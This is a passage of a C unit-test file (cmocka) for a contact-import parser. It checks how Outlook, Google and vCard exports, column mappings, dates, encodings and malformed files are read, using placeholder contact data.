    assert_val(r, CF_POSTAL_CODE, "62701");
    assert_val(r, CF_COUNTRY, "United States");
    assert_int_equal(r->ntags, 2);
    assert_string_equal(r->tags[0], "Friends");
    assert_string_equal(r->tags[1], "VIP");
    assert_val(r, CF_BIRTHDAY, "1990-04-03");
    assert_val(r, CF_NOTES, "Line one\nLine two");
    assert_val(r, CF_WEBSITE, "https://Example.org/ana");
    parsed_free(p);

    header_is("Home Phone", "phone.0:home", NULL);
    header_is("Business Fax", "phone.0:work,fax", NULL);
    header_is("Company Main Phone", "phone.0:work,main", NULL);
    header_is("Job Title", "title", NULL);
    header_is("Company", "organisation", NULL);
    header_is("Business Street 2", "address_line", NULL);
    header_is("E-mail 3 Address", "email.3", NULL);
}

/* Outlook writes "0/0/00" in Birthday for a contact without one. */
static void test_outlook_no_birthday(void **state)
{
    (void)state;
    import_settings set = {.dates = DATES_MDY};
    parsed *p = parse_s("First Name,Last Name,Birthday\r\nAna,Example,0/0/00\r\nBen,Sample,4/3/1990\r\n", &set);
    assert_int_equal(p->n, 2);
    assert_val(&p->rows[1], CF_BIRTHDAY, "1990-04-03");
    assert_clean(&p->rows[0]);
    assert_val(&p->rows[0], CF_BIRTHDAY, "");
    parsed_free(p);
}

static void test_google_export(void **state)
{
    (void)state;
    parsed *p = parse_s(
        "First Name,Middle Name,Last Name,Phonetic First Name,Nickname,Organization Name,Organization Title,"
        "Birthday,Notes,Labels,E-mail 1 - Label,E-mail 1 - Value,E-mail 2 - Label,E-mail 2 - Value,"
        "Phone 1 - Label,Phone 1 - Value,Phone 2 - Label,Phone 2 - Value,Address 1 - Label,Address 1 - Formatted,"
        "Address 1 - Street,Address 1 - City,Address 1 - Region,Address 1 - Postal Code,Address 1 - Country,"
        "Address 2 - Street,Website 1 - Label,Website 1 - Value\n"
        "Darya,,Primer,,Dasha,Example Ltd,Editor,--04-12,Met online,Friends ::: * myContacts ::: Family,Work,"
        "darya@work.example.org,* Home,darya@example.org,Mobile,+7 555 010-01-00,Work,+7 555 010-01-01,Home,"
        "\"1 Example St\nMoscow\",1 Example St,Moscow,,101000,Russia,2 Other St,,https://example.org/darya\n",
        NULL);
    static const char *const codes[] = {
        "first_name",   "middle_name", "last_name", "",         "nickname",     "organisation", "title",
        "birthday",     "notes",       "tags",      "email_type.1", "email.1",  "email_type.2", "email.2",
        "phone_type.1", "phone.1",     "phone_type.2", "phone.2", "",           "",             "address",
        "city",         "address_region", "postal_code", "country", "",         "",             "website"};
    assert_int_equal(p->src.ncolumns, 28);
    for (size_t i = 0; i < 28; i++)
        target_code_is(&p->src.targets[i], codes[i]);
    assert_string_equal(p->src.targets[3].why, "not a known column");
    assert_string_equal(p->src.targets[19].why, "the address is read from its parts");
    assert_string_equal(p->src.targets[25].why, "only one postal address is kept");
    assert_int_equal(p->n, 1);
    const import_row *r = &p->rows[0];
    assert_clean(r);
    assert_val(r, CF_FIRST_NAME, "Darya");
    assert_val(r, CF_NICKNAME, "Dasha");
    assert_val(r, CF_ORGANISATION, "Example Ltd");
    assert_val(r, CF_TITLE, "Editor");
    assert_val(r, CF_BIRTHDAY, "--04-12");
    /* "* Home" is the preferred one: first, and the contact's email. */
    assert_int_equal(r->nemails, 2);
    assert_channel(&r->emails[0], "darya@example.org", "home");
    assert_channel(&r->emails[1], "darya@work.example.org", "work");
    assert_val(r, CF_EMAIL, "darya@example.org");
    assert_int_equal(r->nphones, 2);
    assert_channel(&r->phones[0], "+7 555 010-01-00", "cell");
    assert_channel(&r->phones[1], "+7 555 010-01-01", "work");
    assert_val(r, CF_ADDRESS, "1 Example St");
    assert_val(r, CF_POSTAL_CODE, "101000");
    assert_val(r, CF_WEBSITE, "https://example.org/darya");
    /* " ::: " separates labels; Google's own "* myContacts" is no tag. */
    assert_int_equal(r->ntags, 2);
    assert_string_equal(r->tags[0], "Friends");
    assert_string_equal(r->tags[1], "Family");
    parsed_free(p);

    header_is("E-mail 1 - Type", "email_type.1", NULL);
    header_is("Group Membership", "tags", NULL);
    header_is("Given Name", "first_name", NULL);
    header_is("Family Name", "last_name", NULL);
    header_is("Additional Name", "middle_name", NULL);
    header_is("Name Suffix", "suffix", NULL);
    header_is("Address 1 - Extended Address", "address_line", NULL);
}

/* Google writes several values of one label into one cell, separated by
 * " ::: " ("a@example.org ::: b@example.org"). */
static void test_google_several_values_in_a_cell(void **state)
{
    (void)state;
    parsed *p = parse_s("First Name,Last Name,E-mail 1 - Label,E-mail 1 - Value,Phone 1 - Label,Phone 1 - Value\n"
                        "Ana,Example,* Home ::: Home,ana@example.org ::: ana2@example.org,Mobile,"
                        "+1 555 0100 ::: +1 555 0101\n",
                        NULL);
    assert_int_equal(p->n, 1);
    const import_row *r = &p->rows[0];
    assert_clean(r);
    assert_int_equal(r->nemails, 2);
    assert_string_equal(r->emails[0].value, "ana@example.org");
    assert_string_equal(r->emails[1].value, "ana2@example.org");
    assert_int_equal(r->nphones, 2);
    assert_string_equal(r->phones[0].value, "+1 555 0100");
    assert_string_equal(r->phones[1].value, "+1 555 0101");
    parsed_free(p);
}

/* export.c's columns, in its order, and one row as its CSV writes it. */
static void test_own_export(void **state)
{
    (void)state;
    parsed *p = parse_s(
        "id,external_id,first_name,middle_name,last_name,suffix,nickname,title,organisation,party,email,email_type,"
        "phone,phone_type,other_emails,other_phones,address,city,address_region,postal_code,country,website,"
        "contact_form,birthday,region_code,region_name,tags,notes,updated_at\r\n"
        "42,crm-7,Ana,Maria,Example,Jr.,Annie,Dr.,Example Ltd,Green,ana@example.org,home,+1 555 0100,cell,"
        "\"ana@work.example.org (work)\nana@old.example.org\",\"+1 555 0101 (work,fax)\n+1 555 0102\","
        "\"12 Example Street\nSuite 5\",Springfield,IL,62701,United States,https://example.org,"
        "https://example.org/contact,--04-12,IL-13,Illinois 13th,\"a, b, VIP\",\"two\nlines\","
        "2024-01-31T10:00:00.000000Z\r\n",
        NULL);
    static const char *const codes[] = {
        "",        "external_id", "first_name",  "middle_name",  "last_name",   "suffix",       "nickname",
        "title",   "organisation", "party",      "email.1",      "email_type.1", "phone.1",     "phone_type.1",
        "emails",  "phones",      "address",     "city",         "address_region", "postal_code", "country",
        "website", "contact_form", "birthday",   "region",       "",            "tags",         "notes",
        ""};
    assert_int_equal(p->src.ncolumns, 29);
    for (size_t i = 0; i < 29; i++)
        target_code_is(&p->src.targets[i], codes[i]);
    assert_string_equal(p->src.targets[0].why,
                        "a contact number from an export is not imported: contacts are matched on their email or "
                        "external id");
    assert_string_equal(p->src.targets[25].why, "the region is read from its code");
    assert_string_equal(p->src.targets[28].why, "kept by the system, not imported");
    assert_int_equal(p->n, 1);
    const import_row *r = &p->rows[0];
    assert_clean(r);
    assert_val(r, CF_EXTERNAL_ID, "crm-7");
    assert_val(r, CF_MIDDLE_NAME, "Maria");
    assert_val(r, CF_SUFFIX, "Jr.");
    assert_val(r, CF_PARTY, "Green");
    assert_val(r, CF_ADDRESS, "12 Example Street\nSuite 5");
    assert_val(r, CF_CONTACT_FORM, "https://example.org/contact");
    assert_val(r, CF_BIRTHDAY, "--04-12");
    assert_val(r, CF_REGION, "IL-13");
    assert_val(r, CF_NOTES, "two\nlines");
    assert_val(r, CF_EMAIL, "ana@example.org");
    assert_val(r, CF_EMAIL_TYPE, "home");
    assert_val(r, CF_PHONE_TYPE, "cell");
    assert_int_equal(r->nemails, 3);
    assert_channel(&r->emails[0], "ana@example.org", "home");
    assert_channel(&r->emails[1], "ana@work.example.org", "work");
    assert_channel(&r->emails[2], "ana@old.example.org", "");
    assert_int_equal(r->nphones, 3);
    assert_channel(&r->phones[0], "+1 555 0100", "cell");
    assert_channel(&r->phones[1], "+1 555 0101", "work,fax");
    assert_channel(&r->phones[2], "+1 555 0102", "");
    assert_int_equal(r->ntags, 3);
    assert_string_equal(r->tags[0], "a");
    assert_string_equal(r->tags[1], "b");
    assert_string_equal(r->tags[2], "VIP");
    parsed_free(p);
}

/* ---- targets and the caller's mapping ---- */

static void code_round_trip(const char *code, enum import_target_kind kind, int field, int slot, const char *types)
{
    import_target t;
    if (!import_target_parse(code, &t))
        fail_msg("import_target_parse(\"%s\") refused it", code);
    assert_int_equal(t.kind, kind);
    if (kind == TK_FIELD)
        assert_int_equal(t.field, field);
    if (kind >= TK_EMAIL && kind <= TK_PHONE_TYPE)
        assert_int_equal(t.slot, slot);
    assert_string_equal(t.types ? t.types : "", types);
    char out[64];
    import_target_code(&t, out);
    assert_string_equal(out, code);
}

static void test_target_codes(void **state)
{
    (void)state;
    for (int f = 0; f < CF_COUNT; f++) {
        if (f == CF_EMAIL || f == CF_PHONE || f == CF_EMAIL_TYPE || f == CF_PHONE_TYPE)
            continue;
        code_round_trip(contact_fields[f].name, TK_FIELD, f, 0, "");
    }
    code_round_trip("", TK_IGNORE, 0, 0, "");
    code_round_trip("email.1", TK_EMAIL, 0, 1, "");
    code_round_trip("email.8", TK_EMAIL, 0, 8, "");
    code_round_trip("email.0", TK_EMAIL, 0, 0, "");
    code_round_trip("phone.2", TK_PHONE, 0, 2, "");
    code_round_trip("phone.1:cell", TK_PHONE, 0, 1, "cell");
    code_round_trip("phone.3:work,fax", TK_PHONE, 0, 3, "work,fax");
    code_round_trip("phone.1:work,main", TK_PHONE, 0, 1, "work,main");
    code_round_trip("phone.1:home,fax", TK_PHONE, 0, 1, "home,fax");
    code_round_trip("phone.1:pager", TK_PHONE, 0, 1, "pager");
    code_round_trip("phone.1:other", TK_PHONE, 0, 1, "other");
    code_round_trip("email.2:work", TK_EMAIL, 0, 2, "work");
    code_round_trip("email_type.1", TK_EMAIL_TYPE, 0, 1, "");
    code_round_trip("phone_type.4", TK_PHONE_TYPE, 0, 4, "");
    code_round_trip("emails", TK_EMAIL_LIST, 0, 0, "");
    code_round_trip("phones", TK_PHONE_LIST, 0, 0, "");
    code_round_trip("address_line", TK_ADDRESS_LINE, 0, 0, "");
    code_round_trip("tags", TK_TAGS, 0, 0, "");
    code_round_trip("campaign", TK_CAMPAIGN, 0, 0, "");
    code_round_trip("name", TK_NAME, 0, 0, "");

    import_target t;
    static const char *const bad[] = {"bogus", "First_Name", " first_name", "first_name ", "email.", "email.x",
                                      "email.1x", "email.-1", "email.1:", "phone.1:bogus", "phone.1:Cell",
                                      "phone.1:cell,voice", "email_type.1:home", "tags.1", "emails.1", "name:x",
                                      "first_name.1", "email:1", "email.99999", "region_id"};
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
        if (import_target_parse(bad[i], &t))
            fail_msg("import_target_parse(\"%s\") accepted it", bad[i]);

    char label[96];
    assert_true(import_target_parse("first_name", &t));
    import_target_label(&t, label);
    assert_string_equal(label, "First name");
    assert_true(import_target_parse("email.2", &t));
    import_target_label(&t, label);
    assert_string_equal(label, "Email 2");
    assert_true(import_target_parse("phone.1:cell", &t));
    import_target_label(&t, label);
    assert_string_equal(label, "Phone 1 (cell)");
    assert_true(import_target_parse("phone_type.3", &t));
    import_target_label(&t, label);
    assert_string_equal(label, "Phone 3 type");
    assert_true(import_target_parse("", &t));
    import_target_label(&t, label);
    assert_string_equal(label, "(not imported)");
}

/* import_target_parse takes a field's name for a column: for email, phone
 * and their types that is the first slot. */
static void test_target_field_names_as_codes(void **state)
{
    (void)state;
    static const struct {
        const char *name, *code;
        enum import_target_kind kind;
    } own[] = {
        {"email", "email.1", TK_EMAIL},
        {"phone", "phone.1", TK_PHONE},
        {"email_type", "email_type.1", TK_EMAIL_TYPE},
        {"phone_type", "phone_type.1", TK_PHONE_TYPE},
    };
    for (size_t i = 0; i < sizeof own / sizeof *own; i++) {
        import_target t;
        if (!import_target_parse(own[i].name, &t))
            fail_msg("import_target_parse(\"%s\") refused the field's name", own[i].name);
        assert_int_equal(t.kind, own[i].kind);
        assert_int_equal(t.slot, 1);
        target_code_is(&t, own[i].code);
    }
}

static void test_headers_recognised(void **state)
{
    (void)state;
    header_is("first_name", "first_name", NULL);
    header_is("FIRST NAME", "first_name", NULL);
    header_is("First-Name", "first_name", NULL);
    header_is("  First   name ", "first_name", NULL);
    header_is("\xEF\xBB\xBF" "email", "email.0", NULL);
    header_is("E-mail", "email.0", NULL);
    header_is("Email Address", "email.0", NULL);
    header_is("E-mail 2 - Value", "email.2", NULL);
    header_is("Email 3", "email.3", NULL);
    header_is("Mobile", "phone.0:cell", NULL);
    header_is("Zip Code", "postal_code", NULL);
    header_is("Address Line 2", "address_line", NULL);
    header_is("Date of Birth", "birthday", NULL);
    header_is("Region Code", "region", NULL);
    header_is("Full Name", "name", NULL);
    header_is("Campaigns", "campaign", NULL);
    header_is("E-mail 9 - Value", "", "at most 8 emails and 8 phones are kept");
    header_is("Address 2 - City", "", "only one postal address is kept");
    header_is("Favourite colour", "", "not a known column");
    header_is("", "", "the column has no header");
    header_is("  ", "", "the column has no header");
    header_is("Created At", "", "kept by the system, not imported");
}

static void test_caller_mapping(void **state)
{
    (void)state;
    const char *csv = "a,b,c,d\nAna,Example,ana@example.org,+1 555 0100\n";
    const char *const codes[] = {"first_name", "last_name", "email.2", ""};
    import_settings set = {.codes = codes, .ncodes = 4};
    parsed *p = parse_s(csv, &set);
    target_code_is(&p->src.targets[0], "first_name");
    target_code_is(&p->src.targets[2], "email.2");
    assert_int_equal(p->src.targets[3].kind, TK_IGNORE);
    assert_int_equal(p->n, 1);
    assert_clean(&p->rows[0]);
    assert_val(&p->rows[0], CF_FIRST_NAME, "Ana");
    assert_val(&p->rows[0], CF_EMAIL, "ana@example.org");
    assert_int_equal(p->rows[0].nphones, 0);
    parsed_free(p);

    /* Every target code import_target_code writes is taken back. */
    const char *const codes2[] = {"phone.1:cell", "name", "tags", "campaign"};
    set.codes = codes2;
    p = parse_s("w,x,y,z\n555 0100,Ana Maria Example,\"a, b\",Spring;Autumn\n", &set);
    assert_int_equal(p->n, 1);
    assert_clean(&p->rows[0]);
    assert_channel(&p->rows[0].phones[0], "555 0100", "cell");
    assert_val(&p->rows[0], CF_FIRST_NAME, "Ana Maria");
    assert_val(&p->rows[0], CF_LAST_NAME, "Example");
    assert_int_equal(p->rows[0].ntags, 2);
    assert_int_equal(p->rows[0].ncampaigns, 2);
    assert_string_equal(p->rows[0].campaigns[1], "Autumn");
    parsed_free(p);

    set.ncodes = 3;
    char *err = open_error(csv, &set);
    assert_string_equal(err, "The mapping names 3 columns, but the file has 4.");
    free(err);
    const char *const codes3[] = {"first_name", "last_name", "emial", ""};
    set.codes = codes3;
    set.ncodes = 4;
    err = open_error(csv, &set);
    assert_string_equal(err, "Column 3: \"emial\" is not something a column can be imported as.");
    free(err);

    /* The same field from two columns: the first is read. */
    const char *const codes4[] = {"first_name", "first_name", "", ""};
    set.codes = codes4;
    p = parse_s(csv, &set);
    assert_int_equal(p->src.targets[1].kind, TK_IGNORE);
    assert_string_equal(p->src.targets[1].why, "the same as column 1 (a)");
    assert_val(&p->rows[0], CF_FIRST_NAME, "Ana");
    parsed_free(p);
}

static void test_import_date(void **state)
{
    (void)state;
    char out[IMPORT_DATE_OUT];
    assert_null(import_date("1990-04-03", 10, DATES_ISO, out));
    assert_string_equal(out, "1990-04-03");
    assert_null(import_date("1990-04-03T23:30:00-08:00", 25, DATES_ISO, out)); /* the date as written */
    assert_string_equal(out, "1990-04-03");
    assert_null(import_date("1990-04-03 00:00:00", 19, DATES_DMY, out));
    assert_string_equal(out, "1990-04-03");
    assert_null(import_date("19900403", 8, DATES_MDY, out));
    assert_string_equal(out, "1990-04-03");
    assert_null(import_date("--0229", 6, DATES_ISO, out));
    assert_string_equal(out, "--02-29");
    assert_null(import_date("4/3/1990", 8, DATES_MDY, out));
    assert_string_equal(out, "1990-04-03");
    assert_null(import_date("15.04.1990", 10, DATES_DMY, out));
    assert_string_equal(out, "1990-04-15");
    assert_null(import_date("29/02", 5, DATES_DMY, out));
    assert_string_equal(out, "--02-29");
    assert_null(import_date("29/02/2024", 10, DATES_DMY, out));
    assert_string_equal(out, "2024-02-29");
    assert_string_equal(import_date("29/02/2023", 10, DATES_DMY, out), "is not a date: month 2 has no day 29");
    assert_string_equal(import_date("31/04/1990", 10, DATES_DMY, out), "is not a date: month 4 has no day 31");
    assert_string_equal(import_date("13/01/1992", 10, DATES_MDY, out), "is not a date: 13 is not a month");
    assert_string_equal(import_date("0/01/1992", 9, DATES_MDY, out), "is not a date: 0 is not a month");
    assert_string_equal(import_date("03/04/90", 8, DATES_MDY, out), "is not a date: write the year with four digits");
    assert_string_equal(import_date("03/04/1990", 10, DATES_ISO, out),
                        "is not written YYYY-MM-DD: choose the file's date format (MM/DD/YYYY or DD/MM/YYYY)");
    assert_string_equal(import_date("yesterday", 9, DATES_MDY, out), "is not a date");
    assert_string_equal(import_date("3/4-1990", 8, DATES_MDY, out), "is not a date");
    assert_string_equal(import_date("1/2/1990/4", 10, DATES_MDY, out), "is not a date");
    assert_string_equal(import_date("12", 2, DATES_MDY, out), "is not a date");
    assert_string_equal(import_date("", 0, DATES_MDY, out), "is not a date");
}

/* An ISO date that is not a real day: the message is about the day, not
 * about the year (which has four digits). */
static void test_import_date_iso_not_a_day(void **state)
{
    (void)state;
    char out[IMPORT_DATE_OUT];
    static const char *const bad[] = {"1990-02-30", "1990-13-01", "2023-02-29"};
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        for (int d = DATES_ISO; d <= DATES_DMY; d++) {
            const char *why = import_date(bad[i], strlen(bad[i]), (enum import_dates)d, out);
            assert_non_null(why);
            if (strstr(why, "four digits"))
                fail_msg("import_date(\"%s\", %d): \"%s\"", bad[i], d, why);
        }
    }
}

/* ---- files that are not what they should be ---- */

static void test_header_only(void **state)
{
    (void)state;
    parsed *p = parse_s("First Name,Last Name,E-mail 1 - Label,E-mail 1 - Value,Labels,Birthday\n", NULL);
    assert_int_equal(p->src.ncolumns, 6);
    assert_int_equal(p->n, 0);
    assert_int_equal(p->end, 0);
    parsed_free(p);
    p = parse_s("email", NULL);
    assert_int_equal(p->n, 0);
    assert_int_equal(p->end, 0);
    parsed_free(p);
    /* A vCard file without cards is no error either. */
    p = parse_s("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Example\r\nEND:VCARD\r\n", NULL);
    assert_int_equal(p->n, 1);
    assert_val(&p->rows[0], CF_FIRST_NAME, "Ana");
    assert_val(&p->rows[0], CF_LAST_NAME, "Example");
    parsed_free(p);
}

static void test_empty_file(void **state)
{
    (void)state;
    char *err = open_error_n("", 0, NULL);
    assert_string_equal(err, "The file is empty.");
    free(err);
    err = open_error("\xEF\xBB\xBF", NULL);
    assert_string_equal(err, "The file has no rows.");
    free(err);
    err = open_error("\r\n\n\r\n", NULL);
    assert_string_equal(err, "The file has no rows.");
    free(err);
    err = open_error_n("\xFF\xFE", 2, NULL);
    assert_string_equal(err, "The file has no rows.");
    free(err);
}

static void test_binary_input(void **state)
{
    (void)state;
#define BIN(s) {s, sizeof(s) - 1}
    static const struct {
        const char *data;
        size_t len;
    } bins[] = {
        BIN("%PDF-1.4\n%\xE2\xE3\xCF\xD3\n1 0 obj"),
        BIN("PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00"),
        BIN("\x89PNG\r\n\x1A\n\x00\x00\x00\rIHDR"),
        BIN("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00\x00"),
        BIN("\x1F\x8B\x08\x00\x00\x00\x00\x00"),
        BIN("first_name,last_name\nAna,Ex\x00mple\n"),
        BIN("first_name\n\x01\x02\x03\x04\x05\x06\x07\x08"),
    };
#undef BIN
    for (size_t i = 0; i < sizeof bins / sizeof *bins; i++) {
        char *err = open_error_n(bins[i].data, bins[i].len, NULL);
        assert_contains(err, "This is not a text file");
        free(err);
    }
    char *err = open_error_n("first_name,last_name\nAna,Ex\x00mple\n", 33, NULL);
    assert_string_equal(err, "This is not a text file (a NUL byte at line 2).");
    free(err);
    /* Declared Windows-1252, the NUL is still refused. */
    import_settings set = {.encoding_set = true, .encoding = TEXTENC_CP1252};
    err = open_error_n("first_name,last_name\nAna,Ex\x00mple\n", 33, &set);
    assert_contains(err, "line 2");
    free(err);
}

static void test_utf16(void **state)
{
    (void)state;
    /* "email,first_name\r\nana@example.org,Jos\u00e9\r\n" in UTF-16LE with a mark. */
    const char *text = "email,first_name\r\nana@example.org,Jos\xC3\xA9\r\n";
    buf b = {0};
    buf_add(&b, "\xFF\xFE", 2);
    for (const unsigned char *s = (const unsigned char *)text; *s; s++) {
        unsigned cp = *s;
        if (*s == 0xC3)
            cp = 0xC0 | (s[1] & 0x3F), s++;
        buf_addc(&b, (char)cp);
        buf_addc(&b, 0);
    }
    parsed *p = parse_n(b.data, b.len, NULL);
    assert_int_equal(p->src.encoding, TEXTENC_UTF16LE);
    assert_int_equal(p->n, 1);
    assert_clean(&p->rows[0]);
    assert_val(&p->rows[0], CF_EMAIL, "ana@example.org");
    assert_val(&p->rows[0], CF_FIRST_NAME, "Jos\xC3\xA9");
    parsed_free(p);
    buf_free(&b);
}

static void test_more_fields_than_header(void **state)
{
    (void)state;
    parsed *p = parse_s("first_name,last_name\nAna,Example,extra\nBen,Sample\nCara\n", NULL);
    assert_int_equal(p->n, 3);
    assert_error(&p->rows[0], "", "has 3 fields but the header has 2 (a comma (,) inside a value that is not "
                                  "quoted?)");
    assert_val(&p->rows[0], CF_FIRST_NAME, ""); /* nothing of it is kept */
    assert_clean(&p->rows[1]);
    assert_val(&p->rows[1], CF_LAST_NAME, "Sample");
    /* Fewer fields: the missing ones are not given. */
    assert_clean(&p->rows[2]);
    assert_val(&p->rows[2], CF_FIRST_NAME, "Cara");
    assert_false(p->rows[2].has[CF_LAST_NAME]);
    parsed_free(p);
}

static void test_blank_rows_skipped(void **state)
{
    (void)state;
    parsed *p = parse_s("first_name,last_name\r\n\r\nAna,Example\r\n,\r\n \t, \r\n\r\nBen,Sample\r\n,,\r\n", NULL);
    assert_int_equal(p->n, 2);
    assert_int_equal(p->rows[0].record, 1);
    assert_int_equal(p->rows[0].line, 3);
    assert_int_equal(p->rows[1].record, 2);
    assert_int_equal(p->rows[1].line, 7);
    assert_val(&p->rows[1], CF_FIRST_NAME, "Ben");
    assert_clean(&p->rows[0]);
    assert_clean(&p->rows[1]);
    parsed_free(p);
}

static void test_rows_without_name(void **state)
{
    (void)state;
    /* A row without a name is no error here: it may update a contact that
     * has one (matched on its email); import.c refuses it as a new one. */
    parsed *p = parse_s("first_name,email,company\n,ana@example.org,\n,,Example Ltd\n", NULL);
    assert_int_equal(p->n, 2);
    assert_clean(&p->rows[0]);
    assert_true(contact_check_whole(&p->rows[0].v) != NULL);
    assert_clean(&p->rows[1]);
    assert_val(&p->rows[1], CF_ORGANISATION, "Example Ltd");
    parsed_free(p);
    /* A whole name is split at its last space when there are no parts. */
    p = parse_s("Name,Email\nAna Maria Example,ana@example.org\nCher,cher@example.org\n", NULL);
    assert_val(&p->rows[0], CF_FIRST_NAME, "Ana Maria");
    assert_val(&p->rows[0], CF_LAST_NAME, "Example");
    assert_val(&p->rows[1], CF_FIRST_NAME, "");
    assert_val(&p->rows[1], CF_LAST_NAME, "Cher");
    parsed_free(p);
}

static void test_no_known_column(void **state)
{
    (void)state;
    char *err = open_error("foo,bar\n1,2\n", NULL);
    assert_string_equal(err, "None of the columns is one this import knows (such as first_name, last_name, email, "
                             "phone): is the first row a header? Choose what each column holds.");
    free(err);
    err = open_error("first_name,\"last\n", NULL);
    assert_contains(err, "The header row cannot be read: ");
    free(err);
}

static void test_vcard_report(void **state)
{
    (void)state;
    /* What the model does not hold is named, never dropped silently. */
    parsed *p = parse_s("BEGIN:VCARD\r\nVERSION:3.0\r\nN:Example;Ana;;;\r\nFN:Ana Example\r\n"
                        "PHOTO;ENCODING=b;TYPE=JPEG:AAAA\r\nX-FOO:bar\r\nGEO:1.5;2.5\r\nX-FOO:baz\r\n"
                        "ADR;TYPE=HOME:;;1 Home Road;Springfield;;;\r\nADR;TYPE=WORK:;;2 Work Road;Shelbyville;;;\r\n"
                        "URL:https://example.org/a\r\nURL:https://example.org/b\r\n"
                        "EMAIL:not-an-address\r\nEND:VCARD\r\n",
                        NULL);
    assert_int_equal(p->n, 1);
    const import_row *r = &p->rows[0];
    assert_error(r, "EMAIL", "\"not-an-address\" is not an email address (like name@example.org)");
    assert_val(r, CF_ADDRESS, "1 Home Road");
    assert_val(r, CF_CITY, "Springfield");
    assert_val(r, CF_WEBSITE, "https://example.org/a");
    /* The warnings in the order of the card; each property named once. */
    static const char *const warnings[][2] = {
        {"ADR", "a further postal address is not imported (one is kept)"},
        {"URL", "a further web address is not imported (one is kept)"},
        {"", "not imported (no place for them): PHOTO, X-FOO, GEO"},
    };
    size_t w = 0;
    for (size_t i = 0; i < r->nproblems; i++) {
        const import_problem *q = &r->problems[i];
        if (q->error)
            continue;
        assert_true(w < 3);
        assert_string_equal(q->column, warnings[w][0]);
        assert_string_equal(q->reason, warnings[w][1]);
        w++;
    }
    assert_int_equal(w, 3);
    parsed_free(p);
}

/* ---- messages ---- */

/* Messages quote values and headers: never cut inside a UTF-8 sequence. */
static void test_messages_are_whole_utf8(void **state)
{
    (void)state;
    buf f = {0};
    buf_adds(&f, "first_name,birthday\nAna,a");
    for (int i = 0; i < 30; i++)
        buf_adds(&f, "\xC3\xA9");
    buf_addc(&f, '\n');
    parsed *p = parse_n(f.data, f.len, NULL);
    assert_int_equal(p->n, 1);
    assert_true(p->rows[0].bad);
    for (size_t i = 0; i < p->rows[0].nproblems; i++) {
        const char *why = p->rows[0].problems[i].reason;
        if (!utf8_valid(why, strlen(why)))
            fail_msg("the message is not valid UTF-8: %s", why);
    }
    parsed_free(p);
    buf_free(&f);
}

/* A long header is shortened (to 200 bytes): at a character boundary. */
static void test_long_header_is_whole_utf8(void **state)
{
    (void)state;
    buf f = {0};
    buf_adds(&f, "first_name,x");
    for (int i = 0; i < 150; i++)
        buf_adds(&f, "\xC3\xA9");
    buf_adds(&f, "\nAna,y\n");
    parsed *p = parse_n(f.data, f.len, NULL);
    const char *h = p->src.headers[1];
    if (!utf8_valid(h, strlen(h)))
        fail_msg("header 2 (%zu bytes) is not valid UTF-8", strlen(h));
    parsed_free(p);
    buf_free(&f);
}

static void test_campaign_limit_message(void **state)
{
    (void)state;
    buf f = {0};
    buf_adds(&f, "first_name,campaign\nAna,");
    for (int i = 0; i < 201; i++)
        buf_addc(&f, 'C');
    buf_addc(&f, '\n');
    parsed *p = parse_n(f.data, f.len, NULL);
    assert_int_equal(p->n, 1);
    assert_error(&p->rows[0], "campaign", "A campaign name is too long (at most 200 characters)");
    parsed_free(p);
    buf_free(&f);
}

/* import_map.h: TK_CAMPAIGN, "campaign names separated by , or ;". */
/* Campaign names are separated by ';' or line breaks: a name may hold a
 * comma. */
static void test_campaign_separators(void **state)
{
    (void)state;
    parsed *p = parse_s("first_name,campaign\nAna,\"Spring; Autumn\"\nBen,\"Spring, 2024\"\n", NULL);
    assert_int_equal(p->n, 2);
    assert_int_equal(p->rows[0].ncampaigns, 2);
    assert_string_equal(p->rows[0].campaigns[0], "Spring");
    assert_string_equal(p->rows[0].campaigns[1], "Autumn");
    assert_int_equal(p->rows[1].ncampaigns, 1);
    assert_string_equal(p->rows[1].campaigns[0], "Spring, 2024");
    parsed_free(p);
}

static void test_delimiter_message_wording(void **state)
{
    (void)state;
    import_settings set = {.delimiter = '|'};
    char *err = open_error("first_name,last_name\nAna,Example\n", &set);
    assert_contains(err, "comma (,)");
    if (strstr(err, "the the "))
        fail_msg("doubled word in: %s", err);
    free(err);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_br01_bom),
        cmocka_unit_test(test_br02_semicolon),
        cmocka_unit_test(test_br03_windows_1252),
        cmocka_unit_test(test_br05_line_breaks_in_fields),
        cmocka_unit_test(test_br06_own_quoting),
        cmocka_unit_test(test_br08_crlf),
        cmocka_unit_test(test_br09_emails_trimmed),
        cmocka_unit_test(test_br11_folded_vcard),
        cmocka_unit_test(test_br13_several_emails_and_phones),
        cmocka_unit_test(test_br15_birthdays),
        cmocka_unit_test(test_br16_month_first),
        cmocka_unit_test(test_br16_day_first),
        cmocka_unit_test(test_br16_no_order_chosen),
        cmocka_unit_test(test_br18_google_and_scripts),
        cmocka_unit_test(test_br19_nfc),
        cmocka_unit_test(test_br20_numbers_as_text),
        cmocka_unit_test(test_br21_spreadsheet_quote),
        cmocka_unit_test(test_br25_deleted_at_ignored),
        cmocka_unit_test(test_br27_over_long_values),
        cmocka_unit_test(test_outlook_export),
        cmocka_unit_test(test_outlook_no_birthday),
        cmocka_unit_test(test_google_export),
        cmocka_unit_test(test_google_several_values_in_a_cell),
        cmocka_unit_test(test_own_export),
        cmocka_unit_test(test_target_codes),
        cmocka_unit_test(test_target_field_names_as_codes),
        cmocka_unit_test(test_headers_recognised),
        cmocka_unit_test(test_caller_mapping),
        cmocka_unit_test(test_import_date),
        cmocka_unit_test(test_import_date_iso_not_a_day),
        cmocka_unit_test(test_header_only),
        cmocka_unit_test(test_empty_file),
        cmocka_unit_test(test_binary_input),
        cmocka_unit_test(test_utf16),
        cmocka_unit_test(test_more_fields_than_header),
        cmocka_unit_test(test_blank_rows_skipped),
        cmocka_unit_test(test_rows_without_name),
        cmocka_unit_test(test_no_known_column),
        cmocka_unit_test(test_vcard_report),
        cmocka_unit_test(test_messages_are_whole_utf8),
        cmocka_unit_test(test_long_header_is_whole_utf8),
        cmocka_unit_test(test_campaign_limit_message),
        cmocka_unit_test(test_campaign_separators),
        cmocka_unit_test(test_delimiter_message_wording),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
